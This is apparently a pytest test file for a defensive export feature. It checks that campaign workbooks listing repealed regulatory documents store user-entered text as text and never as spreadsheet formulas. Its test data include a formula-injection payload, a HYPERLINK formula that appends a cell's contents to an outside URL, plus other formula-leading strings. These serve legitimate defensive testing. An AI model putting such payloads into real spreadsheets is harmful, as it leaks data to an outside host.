"""What users typed goes into the office's workbooks as text: never a formula (CSV/formula
injection), never a reason for the export to fail."""

import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import append_row
from search.exports import campaign_xlsx
from search.models import CampaignItem, CleanupCampaign, Decision

LEAK = '=HYPERLINK("http://x?leak="&B2,"click")'


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def formulas(data: bytes) -> list[str]:
    """The <f> elements of every sheet: what Excel would calculate."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


@pytest.fixture
def campaign_of(people, register_document):
    """The .xlsx bytes of a campaign named ``title`` whose approved items are (document title,
    reason) pairs."""

    def make(title, items):
        campaign = CleanupCampaign.objects.create(title=title, created_by=people["reviewer"])
        for n, (document_title, reason) in enumerate(items, start=1):
            CampaignItem.objects.create(
                campaign=campaign,
                document=register_document(
                    title=document_title,
                    number=f"衡政规〔2016〕{n}号",
                    published_on=date(2016, n, 1),
                ),
                decision=Decision.REPEAL,
                reason=reason,
                state=CampaignItem.State.APPROVED,
            )
        return campaign_xlsx(campaign)

    return make


def repealed_rows(book):
    sheet = book["决定废止的规范性文件目录"]
    return {row[1].value: row for row in sheet.iter_rows(min_row=2)}


def test_a_reason_written_as_a_formula_comes_out_as_its_text(campaign_of):
    data = campaign_of("=1+1", [("+衡水市物业管理办法", LEAK), ("@SUM(1,2)", "-2+3")])
    assert formulas(data) == []
    book = load_workbook(io.BytesIO(data))
    rows = repealed_rows(book)
    reason = rows["+衡水市物业管理办法"][7]
    assert (reason.value, reason.data_type, reason.quotePrefix) == (LEAK, "s", True)
    assert [(c.value, c.data_type) for c in rows["@SUM(1,2)"][1:8:6]] == [
        ("@SUM(1,2)", "s"),
        ("-2+3", "s"),
    ]
    title = book["汇总"]["A1"]
    assert (title.value, title.data_type, title.quotePrefix) == ("=1+1", "s", True)
    # Cells that are not text keep their type, and ordinary text gets no mark.
    number, published = rows["@SUM(1,2)"][0], rows["@SUM(1,2)"][4]
    assert (number.value, number.data_type) == (2, "n")
    assert published.is_date and published.value.date() == date(2016, 2, 1)
    assert rows["@SUM(1,2)"][2].quotePrefix is False


def test_a_word_line_break_in_a_reason_is_a_line_not_an_export_error(campaign_of):
    data = campaign_of(
        "2018年清理", [("衡水市住房公积金管理办法", "已被替代。\x0b见衡政规〔2018〕1号。")]
    )
    reason = repealed_rows(load_workbook(io.BytesIO(data)))["衡水市住房公积金管理办法"][7]
    assert reason.value == "已被替代。\n见衡政规〔2018〕1号。"


def test_every_kind_of_value_through_append_row():
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["=A2", "+1", "-1", "@A1", "\t=1", "\r=1", "普通文字", 3, 1.5, None])
    cells = sheet[1]
    assert all(c.data_type == "s" for c in cells[:7])
    assert [c.quotePrefix for c in cells[:7]] == [True] * 6 + [False]
    assert [c.value for c in cells[7:]] == [3, 1.5, None]
    assert formulas(saved(book)) == []
    reread = load_workbook(io.BytesIO(saved(book))).active
    assert [c.value for c in reread[1][:5]] == ["=A2", "+1", "-1", "@A1", "\t=1"]
